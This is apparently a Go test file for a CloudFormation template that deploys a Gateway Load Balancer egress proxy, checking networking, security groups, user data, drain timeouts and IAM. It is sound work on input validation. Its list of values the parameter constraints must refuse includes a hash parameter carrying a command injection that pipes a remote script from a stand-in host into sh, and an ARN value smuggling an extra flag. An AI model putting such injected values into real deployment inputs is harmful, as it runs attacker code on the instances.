package deploy

import (
	"encoding/base64"
	"fmt"
	"maps"
	"net/netip"
	"os/exec"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/awslabs/goformation/v7/cloudformation/elasticloadbalancingv2"

	"github.com/gwlbproxy/gwlbproxy/cwlogs"
	"github.com/gwlbproxy/gwlbproxy/proxy/policy"
	"github.com/gwlbproxy/gwlbproxy/proxy/records"
)

// Parameter values for which the template is evaluated: its defaults (with
// a package URL, which has none), and values unlike every default, so that
// a property written as a literal where it should follow a parameter (a
// target group attribute, a flag in the user data) fails a check.
var scenarios = []struct {
	name      string
	overrides map[string]string
}{
	{"defaults", map[string]string{
		"PackageUrl":    "https://packages.example.com/gwlbproxy-1.0.0-1.x86_64.rpm",
		"PackageSha256": "0f4e0d7b8f5a1c2e3d4b5a69788796a5b4c3d2e1f00112233445566778899aab",
	}},
	{"overrides", map[string]string{
		"PackageUrl":           "s3://example-artifacts/gwlbproxy/gwlbproxy-1.0.0-1.aarch64.rpm",
		"PackageSha256":        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"Architecture":         "arm64",
		"InstanceType":         "c7g.large",
		"MinSize":              "3",
		"MaxSize":              "9",
		"DesiredCapacity":      "5",
		"RootVolumeSize":       "64",
		"EnableSsm":            "true",
		"TcpIdleTimeout":       "4321",
		"DrainTimeout":         "77",
		"LogGroupName":         "/audit/egress",
		"LogRetentionDays":     "3653",
		"CaSecretArn":          "arn:aws:secretsmanager:eu-west-1:210987654321:secret:gwlbproxy/ca-AbCdEf",
		"ApplianceVpcCidr":     "172.20.0.0/16",
		"GwlbSubnet1Cidr":      "172.20.9.0/28",
		"GwlbSubnet2Cidr":      "172.20.9.16/28",
		"ApplianceSubnet1Cidr": "172.20.1.0/24",
		"ApplianceSubnet2Cidr": "172.20.2.0/24",
		"NatSubnet1Cidr":       "172.20.8.0/28",
		"NatSubnet2Cidr":       "172.20.8.16/28",
	}},
}

func TestTemplateReferences(t *testing.T) {
	rt := loadRawTemplate(t)
	// `aws cloudformation deploy` passes a template of up to 51,200 bytes
	// inline; a larger one needs an S3 bucket.
	if n := len(readFile(t, templatePath)); n > 51200 {
		t.Errorf("%s is %d bytes: above the 51,200 bytes that can be deployed without an S3 bucket", templatePath, n)
	}
	if errs := rt.checkReferences(); len(errs) > 0 {
		t.Errorf("%s: %d reference errors:\n%s", templatePath, len(errs), strings.Join(errs, "\n"))
	}
}

func TestTemplateParameters(t *testing.T) {
	rt := loadRawTemplate(t)
	// Every parameter is in exactly one group of the console's form.
	grouped := map[string]int{}
	iface := asMap(asMap(rt.doc["Metadata"])["AWS::CloudFormation::Interface"])
	for _, g := range iface["ParameterGroups"].([]any) {
		for _, p := range asMap(g)["Parameters"].([]any) {
			grouped[p.(string)]++
		}
	}
	for name := range rt.params {
		if grouped[name] != 1 {
			t.Errorf("parameter %s is in %d parameter groups, want 1", name, grouped[name])
		}
	}
	for name := range grouped {
		if _, ok := rt.params[name]; !ok {
			t.Errorf("parameter group names %s, which is no parameter", name)
		}
	}
	// The AMIs are Amazon Linux 2023's, from the public SSM parameters.
	for param, arch := range map[string]string{"AmiX8664": "x86_64", "AmiArm64": "arm64"} {
		p := rt.params[param]
		if p["Type"] != "AWS::SSM::Parameter::Value<AWS::EC2::Image::Id>" ||
			p["Default"] != "/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-"+arch {
			t.Errorf("parameter %s = %v, want the AL2023 %s AMI's SSM parameter", param, p, arch)
		}
	}
	// The retention choices are the ones CloudWatch Logs (and the appliance) accept.
	for _, v := range rt.params["LogRetentionDays"]["AllowedValues"].([]any) {
		if !cwlogs.ValidRetentionDays(int32(v.(float64))) {
			t.Errorf("LogRetentionDays allows %v, which CloudWatch Logs does not offer", v)
		}
	}
	// Values each constraint must refuse.
	hex64 := strings.Repeat("a", 64)
	for param, bad := range map[string]string{
		"PackageUrl":      "http://insecure.example.com/gwlbproxy.rpm",
		"PackageSha256":   hex64 + "' ; curl -s https://x.example/p | sh #",
		"PackageSha256 ":  strings.ToUpper(hex64),
		"PackageSha256  ": hex64[1:],
		"CaSecretArn":     `arn:aws:secretsmanager:us-east-1:123456789012:secret:ca" --admin-addr :81`,
		"TcpIdleTimeout":  "59",
		"DrainTimeout":    "3601",
		"LogGroupName":    "group with spaces",
	} {
		param = strings.TrimSpace(param) // spaces: several bad values of one parameter
		vals, err := rt.paramValues(map[string]string{"PackageUrl": "https://x.example/p.rpm", "PackageSha256": hex64, param: bad})
		if err != nil {
			t.Fatal(err)
		}
		if errs := rt.checkConstraints(vals); len(errs) == 0 {
			t.Errorf("%s=%q passes the parameter's constraints", param, bad)
		}
	}
}

func TestTemplate(t *testing.T) {
	rt := loadRawTemplate(t)
	for _, sc := range scenarios {
		t.Run(sc.name, func(t *testing.T) {
			res := rt.resolve(t, sc.overrides)
			c := &templateCheck{res: res, vals: res.vals, minDrainTimeout: int(rt.params["DrainTimeout"]["MinValue"].(float64))}
			c.network(t)
			c.gwlb(t)
			c.securityGroup(t)
			c.instances(t)
			c.userData(t)
			c.iam(t)
			c.records(t)
			c.outputs(t)
		})
	}
}

type templateCheck struct {
	res  *resolved
	vals map[string]string
	// From the user data: the appliance's effective command line (the
	// unit's ExecStart with the flags file the user data writes) and the
	// stop timeout its drop-in sets.
	args        []string
	stopTimeout time.Duration
	targetGroup *elasticloadbalancingv2.TargetGroup
	// minDrainTimeout is the DrainTimeout parameter's MinValue, seconds.
	minDrainTimeout int
}

func (c *templateCheck) seconds(t *testing.T, param string) int {
	t.Helper()
	n, err := strconv.Atoi(c.vals[param])
	if err != nil {
		t.Fatalf("%s=%q: %v", param, c.vals[param], err)
	}
	return n
}

func (c *templateCheck) gwlbCIDRs() []string {
	return []string{c.vals["GwlbSubnet1Cidr"], c.vals["GwlbSubnet2Cidr"]}
}

func str(v any) string { s, _ := v.(string); return s }

func strs(v any) []string {
	var out []string
	switch x := v.(type) {
	case []any:
		for _, e := range x {
			out = append(out, str(e))
		}
	case string:
		out = []string{x}
	}
	return out
}

// network: the GWLB in two AZs of the appliance VPC; the spoke's workload
// subnet routes its egress to the GWLB endpoint, whose subnet keeps only
// the local route; the spoke has no way out of its own; the appliance's
// subnets leave through a NAT gateway in their own AZ.
func (c *templateCheck) network(t *testing.T) {
	res := c.res
	azOf := func(subnet string) string {
		return str(res.props(t, strings.TrimPrefix(subnet, "ref:"), "AWS::EC2::Subnet")["AvailabilityZone"])
	}
	vpcOf := func(subnet string) string {
		return str(res.props(t, strings.TrimPrefix(subnet, "ref:"), "AWS::EC2::Subnet")["VpcId"])
	}
	cidrOf := func(subnet string) string {
		return str(res.props(t, strings.TrimPrefix(subnet, "ref:"), "AWS::EC2::Subnet")["CidrBlock"])
	}
	if got := str(res.props(t, "ApplianceVpc", "AWS::EC2::VPC")["CidrBlock"]); got != c.vals["ApplianceVpcCidr"] {
		t.Errorf("appliance VPC CIDR %q, want ApplianceVpcCidr %q", got, c.vals["ApplianceVpcCidr"])
	}
	vpc := netip.MustParsePrefix(c.vals["ApplianceVpcCidr"])
	for _, s := range res.ofType("AWS::EC2::Subnet") {
		p := netip.MustParsePrefix(cidrOf("ref:" + s))
		if vpcOf("ref:"+s) == "ref:ApplianceVpc" && (!vpc.Contains(p.Addr()) || p.Bits() < vpc.Bits()) {
			t.Errorf("subnet %s %s is outside the appliance VPC %s", s, p, vpc)
		}
	}

	gwlbSubnets := strs(res.props(t, "Gwlb", "AWS::ElasticLoadBalancingV2::LoadBalancer")["Subnets"])
	if len(gwlbSubnets) != 2 || azOf(gwlbSubnets[0]) == azOf(gwlbSubnets[1]) || azOf(gwlbSubnets[0]) == "" {
		t.Errorf("GWLB subnets %v: want two, in two AZs", gwlbSubnets)
	}
	var gwlbSubnetCIDRs []string
	for _, s := range gwlbSubnets {
		if vpcOf(s) != "ref:ApplianceVpc" {
			t.Errorf("GWLB subnet %s is in %s, not the appliance VPC", s, vpcOf(s))
		}
		gwlbSubnetCIDRs = append(gwlbSubnetCIDRs, cidrOf(s))
	}
	if !slices.Equal(gwlbSubnetCIDRs, c.gwlbCIDRs()) {
		t.Errorf("GWLB subnets' CIDRs %v, want the GwlbSubnet parameters %v", gwlbSubnetCIDRs, c.gwlbCIDRs())
	}

	// Route tables: subnet → table, table → routes.
	tableOf := map[string]string{}
	for _, a := range res.ofType("AWS::EC2::SubnetRouteTableAssociation") {
		p := res.props(t, a, "AWS::EC2::SubnetRouteTableAssociation")
		if prev, dup := tableOf[str(p["SubnetId"])]; dup {
			t.Errorf("subnet %s is associated with %s and %s", p["SubnetId"], prev, p["RouteTableId"])
		}
		tableOf[str(p["SubnetId"])] = str(p["RouteTableId"])
	}
	routes := map[string][]map[string]any{}
	for _, r := range res.ofType("AWS::EC2::Route") {
		p := res.props(t, r, "AWS::EC2::Route")
		routes[str(p["RouteTableId"])] = append(routes[str(p["RouteTableId"])], p)
	}
	defaultRoute := func(subnet string) map[string]any {
		table, ok := tableOf[subnet]
		if !ok {
			t.Errorf("subnet %s has no route table of its own (the VPC's main table is implicit)", subnet)
			return nil
		}
		rs := routes[table]
		if len(rs) != 1 || str(rs[0]["DestinationCidrBlock"]) != "0.0.0.0/0" {
			t.Errorf("subnet %s (table %s): routes %v, want only a default route", subnet, table, rs)
			return nil
		}
		return rs[0]
	}

	// The spoke.
	ep := res.props(t, "GwlbEndpoint", "AWS::EC2::VPCEndpoint")
	if str(ep["VpcEndpointType"]) != "GatewayLoadBalancer" ||
		str(ep["ServiceName"]) != "com.amazonaws.vpce.us-east-1.ref:EndpointService" ||
		str(ep["VpcId"]) != "ref:SpokeVpc" {
		t.Errorf("GWLB endpoint %v: want a GatewayLoadBalancer endpoint of EndpointService in the spoke VPC", ep)
	}
	epSubnets := strs(ep["SubnetIds"])
	if !slices.Equal(epSubnets, []string{"ref:SpokeEndpointSubnet"}) {
		t.Fatalf("GWLB endpoint subnets %v, want [ref:SpokeEndpointSubnet]", epSubnets)
	}
	if az := azOf(epSubnets[0]); az != azOf(gwlbSubnets[0]) && az != azOf(gwlbSubnets[1]) {
		t.Errorf("GWLB endpoint in %s, an AZ the GWLB is not in", az)
	}
	if vpcOf(epSubnets[0]) != "ref:SpokeVpc" || vpcOf("ref:SpokeWorkloadSubnet") != "ref:SpokeVpc" {
		t.Errorf("spoke subnets outside the spoke VPC")
	}
	if r := defaultRoute("ref:SpokeWorkloadSubnet"); r != nil && (str(r["VpcEndpointId"]) != "ref:GwlbEndpoint" || len(r) != 3) {
		t.Errorf("spoke workload default route %v, want the GWLB endpoint", r)
	}
	if table, ok := tableOf["ref:SpokeEndpointSubnet"]; !ok || len(routes[table]) != 0 {
		t.Errorf("spoke endpoint subnet: table %q with routes %v, want a table of its own with the local route only", table, routes[table])
	}
	for _, a := range res.ofType("AWS::EC2::VPCGatewayAttachment") {
		if vpc := str(res.props(t, a, "AWS::EC2::VPCGatewayAttachment")["VpcId"]); vpc != "ref:ApplianceVpc" {
			t.Errorf("gateway attachment %s to %s: only the appliance VPC reaches the internet", a, vpc)
		}
	}

	// The appliance's egress: its own AZ's NAT gateway, in a subnet that
	// routes to the internet gateway of the appliance VPC.
	asgSubnets := strs(res.props(t, "ApplianceGroup", "AWS::AutoScaling::AutoScalingGroup")["VPCZoneIdentifier"])
	if len(asgSubnets) != 2 || azOf(asgSubnets[0]) == azOf(asgSubnets[1]) {
		t.Errorf("Auto Scaling group subnets %v: want two, in two AZs", asgSubnets)
	}
	for _, s := range asgSubnets {
		if slices.Contains(gwlbSubnets, s) || vpcOf(s) != "ref:ApplianceVpc" {
			t.Errorf("appliance subnet %s: want a subnet of the appliance VPC other than the GWLB's", s)
		}
		r := defaultRoute(s)
		if r == nil {
			continue
		}
		nat := strings.TrimPrefix(str(r["NatGatewayId"]), "ref:")
		if nat == "" {
			t.Errorf("appliance subnet %s: default route %v, want a NAT gateway", s, r)
			continue
		}
		natSubnet := str(res.props(t, nat, "AWS::EC2::NatGateway")["SubnetId"])
		if azOf(natSubnet) != azOf(s) {
			t.Errorf("appliance subnet %s (%s) leaves through %s in %s", s, azOf(s), nat, azOf(natSubnet))
		}
		igw := defaultRoute(natSubnet)
		if igw == nil || str(igw["GatewayId"]) != "ref:InternetGateway" {
			t.Errorf("NAT subnet %s: default route %v, want the internet gateway", natSubnet, igw)
		}
	}
}

// gwlb: the target group, the listener and the endpoint service, with the
// timeouts the appliance is started with.
func (c *templateCheck) gwlb(t *testing.T) {
	res := c.res
	lb, err := res.goformatio.GetElasticLoadBalancingV2LoadBalancerWithName("Gwlb")
	if err != nil {
		t.Fatal(err)
	}
	if lb.Type == nil || *lb.Type != "gateway" {
		t.Errorf("Gwlb type %v, want gateway", lb.Type)
	}
	tg, err := res.goformatio.GetElasticLoadBalancingV2TargetGroupWithName("TargetGroup")
	if err != nil {
		t.Fatal(err)
	}
	if deref(tg.Protocol) != "GENEVE" || derefInt(tg.Port) != 6081 || deref(tg.TargetType) != "instance" || deref(tg.VpcId) != "ref:ApplianceVpc" {
		t.Errorf("target group: protocol %s port %d type %s VPC %s, want GENEVE 6081 instance ref:ApplianceVpc",
			deref(tg.Protocol), derefInt(tg.Port), deref(tg.TargetType), deref(tg.VpcId))
	}
	if tg.HealthCheckEnabled == nil || !*tg.HealthCheckEnabled || deref(tg.HealthCheckProtocol) != "HTTP" ||
		deref(tg.HealthCheckPort) != "80" || deref(tg.HealthCheckPath) != "/" || tg.Matcher == nil || deref(tg.Matcher.HttpCode) != "200-399" {
		codes := ""
		if tg.Matcher != nil {
			codes = deref(tg.Matcher.HttpCode)
		}
		t.Errorf("target group health check: enabled %v, %s port %s path %s codes %s; want enabled, HTTP port 80 path / codes 200-399",
			derefBool(tg.HealthCheckEnabled), deref(tg.HealthCheckProtocol), deref(tg.HealthCheckPort), deref(tg.HealthCheckPath), codes)
	}
	// The GWLB's limits: interval 5–300 s, timeout 2–120 s and below the
	// interval, thresholds 2–10.
	interval, timeout := derefInt(tg.HealthCheckIntervalSeconds), derefInt(tg.HealthCheckTimeoutSeconds)
	healthy, unhealthy := derefInt(tg.HealthyThresholdCount), derefInt(tg.UnhealthyThresholdCount)
	if interval < 5 || interval > 300 || timeout < 2 || timeout >= interval || healthy < 2 || healthy > 10 || unhealthy < 2 || unhealthy > 10 {
		t.Errorf("health check interval %d s, timeout %d s, thresholds %d/%d: outside the GWLB's limits", interval, timeout, healthy, unhealthy)
	}

	// Target group attributes: the drain, and flows staying on their target.
	attrs := map[string]string{}
	for _, a := range tg.TargetGroupAttributes {
		attrs[deref(a.Key)] = deref(a.Value)
	}
	want := map[string]string{
		"deregistration_delay.timeout_seconds": strconv.Itoa(c.seconds(t, "DrainTimeout")),
		"target_failover.on_deregistration":    "no_rebalance",
		"target_failover.on_unhealthy":         "no_rebalance",
	}
	if !maps.Equal(attrs, want) {
		t.Errorf("target group attributes %v, want %v", attrs, want)
	}

	// The listener (its attributes read from the resolved template:
	// goformation v7.14.9 predates ListenerAttributes).
	ln, err := res.goformatio.GetElasticLoadBalancingV2ListenerWithName("GwlbListener")
	if err != nil {
		t.Fatal(err)
	}
	if ln.LoadBalancerArn != "ref:Gwlb" || len(ln.DefaultActions) != 1 || ln.DefaultActions[0].Type != "forward" ||
		deref(ln.DefaultActions[0].TargetGroupArn) != "ref:TargetGroup" {
		t.Errorf("listener: load balancer %s, actions %+v; want Gwlb forwarding to TargetGroup", ln.LoadBalancerArn, ln.DefaultActions)
	}
	lattrs := map[string]string{}
	for _, a := range res.props(t, "GwlbListener", "AWS::ElasticLoadBalancingV2::Listener")["ListenerAttributes"].([]any) {
		lattrs[str(asMap(a)["Key"])] = str(asMap(a)["Value"])
	}
	if want := map[string]string{"tcp.idle_timeout.seconds": strconv.Itoa(c.seconds(t, "TcpIdleTimeout"))}; !maps.Equal(lattrs, want) {
		t.Errorf("listener attributes %v, want %v", lattrs, want)
	}

	svc, err := res.goformatio.GetEC2VPCEndpointServiceWithName("EndpointService")
	if err != nil {
		t.Fatal(err)
	}
	if svc.AcceptanceRequired == nil || *svc.AcceptanceRequired || !slices.Equal(svc.GatewayLoadBalancerArns, []string{"ref:Gwlb"}) {
		t.Errorf("endpoint service: acceptance required %v, GWLBs %v; want false and [ref:Gwlb]", derefBool(svc.AcceptanceRequired), svc.GatewayLoadBalancerArns)
	}
	c.targetGroup = tg
}

// securityGroup: UDP 6081 and TCP 80 from the GWLB subnets, nothing else
// inbound; it is the instances' group.
func (c *templateCheck) securityGroup(t *testing.T) {
	sg, err := c.res.goformatio.GetEC2SecurityGroupWithName("ApplianceSecurityGroup")
	if err != nil {
		t.Fatal(err)
	}
	if deref(sg.VpcId) != "ref:ApplianceVpc" {
		t.Errorf("security group in %s, want the appliance VPC", deref(sg.VpcId))
	}
	var got, want []string
	for _, in := range sg.SecurityGroupIngress {
		got = append(got, fmt.Sprintf("%s %d-%d from %s", in.IpProtocol, derefInt(in.FromPort), derefInt(in.ToPort), deref(in.CidrIp)))
		if in.SourceSecurityGroupId != nil || in.SourcePrefixListId != nil || in.CidrIpv6 != nil {
			t.Errorf("security group ingress %+v: only the GWLB subnets' CIDRs may reach the appliance", in)
		}
	}
	for _, cidr := range c.gwlbCIDRs() {
		want = append(want, "udp 6081-6081 from "+cidr, "tcp 80-80 from "+cidr)
	}
	slices.Sort(got)
	slices.Sort(want)
	if !slices.Equal(got, want) {
		t.Errorf("security group ingress\n got %q\nwant %q", got, want)
	}
	for _, ing := range c.res.ofType("AWS::EC2::SecurityGroupIngress") {
		t.Errorf("separate ingress rule %s: keep the appliance's ingress in one place", ing)
	}
	// Egress: the one IPv4 rule the re-originated flows need (the subnets
	// have no IPv6 route), and no other.
	var egress []string
	for _, e := range sg.SecurityGroupEgress {
		egress = append(egress, fmt.Sprintf("%s to %s%s%s%s", e.IpProtocol, deref(e.CidrIp), deref(e.CidrIpv6),
			deref(e.DestinationPrefixListId), deref(e.DestinationSecurityGroupId)))
	}
	if want := []string{"-1 to 0.0.0.0/0"}; !slices.Equal(egress, want) {
		t.Errorf("security group egress %q, want exactly %q", egress, want)
	}
	for _, e := range c.res.ofType("AWS::EC2::SecurityGroupEgress") {
		t.Errorf("separate egress rule %s: keep the appliance's egress in one place", e)
	}
}

// instances: the launch template and the Auto Scaling group.
func (c *templateCheck) instances(t *testing.T) {
	res := c.res
	lt, err := res.goformatio.GetEC2LaunchTemplateWithName("LaunchTemplate")
	if err != nil {
		t.Fatal(err)
	}
	d := lt.LaunchTemplateData
	wantAMI := "/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-" + c.vals["Architecture"]
	if deref(d.ImageId) != wantAMI {
		t.Errorf("image %s, want %s (resolved by CloudFormation)", deref(d.ImageId), wantAMI)
	}
	if deref(d.InstanceType) != c.vals["InstanceType"] {
		t.Errorf("instance type %s, want %s", deref(d.InstanceType), c.vals["InstanceType"])
	}
	if d.IamInstanceProfile == nil || deref(d.IamInstanceProfile.Arn) != "getatt:InstanceProfile.Arn" {
		t.Errorf("instance profile %+v, want InstanceProfile", d.IamInstanceProfile)
	}
	if !slices.Equal(d.SecurityGroupIds, []string{"ref:ApplianceSecurityGroup"}) {
		t.Errorf("security groups %v, want only ApplianceSecurityGroup", d.SecurityGroupIds)
	}
	// Instance metadata, exactly: IMDSv2 only; a hop limit of 1, so that
	// nothing a hop further (a container, a forwarded packet) reaches it
	// with the role's credentials; no instance tags in it.
	md := map[string]string{}
	for k, v := range asMap(asMap(res.props(t, "LaunchTemplate", "AWS::EC2::LaunchTemplate")["LaunchTemplateData"])["MetadataOptions"]) {
		md[k] = scalarString(v)
	}
	if md["InstanceMetadataTags"] == "disabled" {
		delete(md, "InstanceMetadataTags") // the default
	}
	if want := map[string]string{"HttpEndpoint": "enabled", "HttpTokens": "required", "HttpPutResponseHopLimit": "1"}; !maps.Equal(md, want) {
		t.Errorf("metadata options %v, want exactly %v", md, want)
	}
	// One root volume, encrypted, deleted with the instance (it holds the
	// local access log; a replaced instance must leave no volume behind).
	if len(d.BlockDeviceMappings) != 1 || d.BlockDeviceMappings[0].Ebs == nil {
		t.Fatalf("block devices %+v: want one root volume", d.BlockDeviceMappings)
	}
	if ebs := d.BlockDeviceMappings[0].Ebs; deref(d.BlockDeviceMappings[0].DeviceName) != "/dev/xvda" ||
		strconv.Itoa(derefInt(ebs.VolumeSize)) != c.vals["RootVolumeSize"] || deref(ebs.VolumeType) != "gp3" ||
		derefBool(ebs.Encrypted) != "true" || derefBool(ebs.DeleteOnTermination) != "true" {
		t.Errorf("root volume %s: %d GiB %s, encrypted %s, deleted on termination %s; want /dev/xvda, RootVolumeSize GiB of gp3, encrypted, deleted on termination",
			deref(d.BlockDeviceMappings[0].DeviceName), derefInt(ebs.VolumeSize), deref(ebs.VolumeType), derefBool(ebs.Encrypted), derefBool(ebs.DeleteOnTermination))
	}

	asg, err := res.goformatio.GetAutoScalingAutoScalingGroupWithName("ApplianceGroup")
	if err != nil {
		t.Fatal(err)
	}
	if asg.MinSize != c.vals["MinSize"] || asg.MaxSize != c.vals["MaxSize"] || deref(asg.DesiredCapacity) != c.vals["DesiredCapacity"] {
		t.Errorf("group size %s/%s/%s, want the parameters %s/%s/%s", asg.MinSize, asg.MaxSize, deref(asg.DesiredCapacity),
			c.vals["MinSize"], c.vals["MaxSize"], c.vals["DesiredCapacity"])
	}
	if asg.LaunchTemplate == nil || deref(asg.LaunchTemplate.LaunchTemplateId) != "ref:LaunchTemplate" ||
		asg.LaunchTemplate.Version != "getatt:LaunchTemplate.LatestVersionNumber" {
		t.Errorf("launch template %+v, want LaunchTemplate's latest version", asg.LaunchTemplate)
	}
	if !slices.Equal(asg.TargetGroupARNs, []string{"ref:TargetGroup"}) || deref(asg.HealthCheckType) != "ELB" {
		t.Errorf("target groups %v, health check type %s: want [ref:TargetGroup], ELB", asg.TargetGroupARNs, deref(asg.HealthCheckType))
	}
	// Scale-in may pick any instance: one protected from it would never
	// drain and leave.
	if asg.NewInstancesProtectedFromScaleIn != nil && *asg.NewInstancesProtectedFromScaleIn {
		t.Errorf("NewInstancesProtectedFromScaleIn: want instances scale-in may remove")
	}
	// The stack waits for every instance's signal (the user data sends it
	// once the health check answers).
	rs := asMap(asMap(res.resources["ApplianceGroup"]["CreationPolicy"])["ResourceSignal"])
	if scalarString(rs["Count"]) != c.vals["DesiredCapacity"] {
		t.Errorf("creation policy waits for %v signals, want DesiredCapacity %s", rs["Count"], c.vals["DesiredCapacity"])
	}
	if ru := asMap(asMap(res.resources["ApplianceGroup"]["UpdatePolicy"])["AutoScalingRollingUpdate"]); ru["WaitOnResourceSignals"] != true {
		t.Errorf("rolling update %v: want it to wait for the signals", ru)
	}
}

// userData: the script is valid bash; it installs the package from
// PackageUrl; the unit's command line with the flags file it writes is one
// the appliance accepts, and matches the GWLB's settings; the stop timeout
// it sets exceeds the drain.
func (c *templateCheck) userData(t *testing.T) {
	lt, err := c.res.goformatio.GetEC2LaunchTemplateWithName("LaunchTemplate")
	if err != nil {
		t.Fatal(err)
	}
	raw, err := base64.StdEncoding.DecodeString(deref(lt.LaunchTemplateData.UserData))
	if err != nil {
		t.Fatalf("user data is not base64: %v", err)
	}
	script := string(raw)
	if !strings.HasPrefix(script, "#!/bin/bash\n") {
		t.Errorf("user data does not start with #!/bin/bash")
	}
	if out, err := exec.Command("bash", "-n", "-c", script).CombinedOutput(); err != nil {
		t.Errorf("user data: bash -n: %v\n%s", err, out)
	}
	for _, want := range []string{
		"'" + c.vals["PackageUrl"] + "'",
		`dnf install -y "$pkg"`,
		"systemctl enable --now gwlbproxy.service || true", // startGate
		"--stack 'gwlbproxy' --resource ApplianceGroup --region 'us-east-1'",
	} {
		if !strings.Contains(script, want) {
			t.Errorf("user data lacks %q:\n%s", want, script)
		}
	}

	c.startGate(t, script)
	c.packagePin(t, script)

	u := parseUnit(t, "systemd/gwlbproxy.service")
	envFile := strings.TrimPrefix(u.one(t, "Service", "EnvironmentFile"), "-")
	flagsFile := heredoc(t, script, envFile)
	env := parseEnvFile(t, "user data "+envFile, flagsFile)
	c.args = execArgs(t, u.one(t, "Service", "ExecStart"), env)[1:]
	checkApplianceAccepts(t, c.args)

	// The policy it writes keeps clients out of the appliance VPC
	// (deploy.md, item 9) and lets the rest through.
	if cfg := u.one(t, "Service", "ExecStart"); !strings.Contains(cfg, "--config /etc/gwlbproxy/policy.yaml") {
		t.Errorf("the unit does not read the policy the user data writes: %s", cfg)
	}
	pol, err := policy.Parse("user data policy.yaml", []byte(heredoc(t, script, "/etc/gwlbproxy/policy.yaml")))
	if err != nil {
		t.Fatalf("the user data's policy: %v", err)
	}
	vpc := netip.MustParsePrefix(c.vals["ApplianceVpcCidr"])
	for _, tc := range []struct {
		dest netip.Addr
		want policy.Action
	}{
		{vpc.Addr().Next().Next(), policy.Deny}, // the VPC's resolver, at .2
		{netip.MustParseAddr("198.51.100.7"), policy.Allow},
	} {
		d := pol.Decide(policy.Subject{Protocol: policy.ProtoTCP, Dest: netip.AddrPortFrom(tc.dest, 443), Client: netip.MustParseAddr("10.200.1.5")})
		if d.Action != tc.want {
			t.Errorf("the user data's policy: TCP to %s %s (rule %q), want %s", tc.dest, d.Action, d.Rule, tc.want)
		}
	}

	dropIn := heredoc(t, script, "/etc/systemd/system/gwlbproxy.service.d/stack.conf")
	m := regexp.MustCompile(`(?m)^TimeoutStopSec=(.+)$`).FindStringSubmatch(dropIn)
	if m == nil || !strings.HasPrefix(dropIn, "[Service]\n") {
		t.Fatalf("stop-timeout drop-in:\n%s", dropIn)
	}
	c.stopTimeout = systemdSpan(t, m[1])

	// The flags, against the template.
	flag := func(name string) string {
		v, _ := flagValue(c.args, name)
		return v
	}
	if got := strings.Split(flag("gwlb-cidrs"), ","); !slices.Equal(got, c.gwlbCIDRs()) {
		t.Errorf("--gwlb-cidrs %v, want the GWLB subnets %v", got, c.gwlbCIDRs())
	}
	idle := time.Duration(c.seconds(t, "TcpIdleTimeout")) * time.Second
	if d, err := time.ParseDuration(flag("tcp-idle-timeout")); err != nil || d != idle {
		t.Errorf("--tcp-idle-timeout %q, want the listener's %v", flag("tcp-idle-timeout"), idle)
	}
	drain := time.Duration(c.seconds(t, "DrainTimeout")) * time.Second
	if d, err := time.ParseDuration(flag("drain-timeout")); err != nil || d != drain {
		t.Errorf("--drain-timeout %q, want the deregistration delay %v", flag("drain-timeout"), drain)
	}
	// The drain's minimum outlasts the GWLB's count of failed health
	// checks (and an interval more, for the checks in flight and the
	// change to spread): until then new flows keep coming, and a stopping
	// appliance must serve them. The appliance refuses a minimum above
	// --drain-timeout, so every DrainTimeout the parameter allows must
	// cover it (the flag check above does not get as far as the values).
	drainMin, err := time.ParseDuration(flag("drain-min"))
	if hold := time.Duration(derefInt(c.targetGroup.UnhealthyThresholdCount)+1) * time.Duration(derefInt(c.targetGroup.HealthCheckIntervalSeconds)) * time.Second; err != nil || drainMin < hold {
		t.Errorf("--drain-min %q: want at least the health check's unhealthy threshold times its interval, and an interval more (%v)", flag("drain-min"), hold)
	}
	if drainMin > drain || drainMin > time.Duration(c.minDrainTimeout)*time.Second {
		t.Errorf("--drain-min %v: above --drain-timeout %v or DrainTimeout's MinValue %d s: the appliance would refuse to start", drainMin, drain, c.minDrainTimeout)
	}
	// The appliance exits within --drain-timeout plus a second; leave
	// systemd a margin beyond that.
	if c.stopTimeout < drain+10*time.Second {
		t.Errorf("TimeoutStopSec %v: want at least --drain-timeout %v plus 10 s", c.stopTimeout, drain)
	}
	if got := flag("cloudwatch-group"); got != "ref:LogGroup" {
		t.Errorf("--cloudwatch-group %q, want the stack's LogGroup", got)
	}
	secret, hasSecret := flagValue(c.args, "ca-secret")
	if secret != c.vals["CaSecretArn"] || hasSecret != (c.vals["CaSecretArn"] != "") {
		t.Errorf("--ca-secret %q (given: %v), want CaSecretArn %q", secret, hasSecret, c.vals["CaSecretArn"])
	}
	// The target group's ports are the appliance's.
	addrPort := func(name, def string) string {
		v, ok := flagValue(c.args, name)
		if !ok {
			v = def
		}
		return v[strings.LastIndex(v, ":")+1:]
	}
	if p := addrPort("admin-addr", ":80"); p != deref(c.targetGroup.HealthCheckPort) {
		t.Errorf("admin listener on port %s, health check on %s", p, deref(c.targetGroup.HealthCheckPort))
	}
	if p := addrPort("geneve-addr", ":6081"); p != strconv.Itoa(derefInt(c.targetGroup.Port)) {
		t.Errorf("GENEVE read on port %s, target group port %d", p, derefInt(c.targetGroup.Port))
	}
}

// heredoc returns the body of the `cat > path <<'EOF'` in script.
func heredoc(t *testing.T, script, path string) string {
	t.Helper()
	re := regexp.MustCompile(`(?s)\ncat > ` + regexp.QuoteMeta(path) + ` <<'EOF'\n(.*?\n)EOF\n`)
	m := re.FindStringSubmatch(script)
	if m == nil {
		t.Fatalf("user data writes no %s (cat > %s <<'EOF'):\n%s", path, path, script)
	}
	return m[1]
}

// iam: the instance role may ship to its log group, read its CA secret and
// fetch its package, and nothing else.
func (c *templateCheck) iam(t *testing.T) {
	res := c.res
	role, err := res.goformatio.GetIAMRoleWithName("InstanceRole")
	if err != nil {
		t.Fatal(err)
	}
	trust := fmt.Sprint(role.AssumeRolePolicyDocument)
	if !strings.Contains(trust, "ec2.amazonaws.com") || strings.Count(trust, "Principal") != 1 {
		t.Errorf("trust policy %s: want EC2 only", trust)
	}
	// No managed policy: AmazonSSMManagedInstanceCore, for one, also reads
	// every SSM parameter.
	if len(role.ManagedPolicyArns) != 0 {
		t.Errorf("managed policies %v, want none", role.ManagedPolicyArns)
	}
	if role.PermissionsBoundary != nil || len(role.Policies) != 1 {
		t.Fatalf("role policies %+v: want exactly one inline policy", role.Policies)
	}
	granted := map[string][]string{} // action → resources
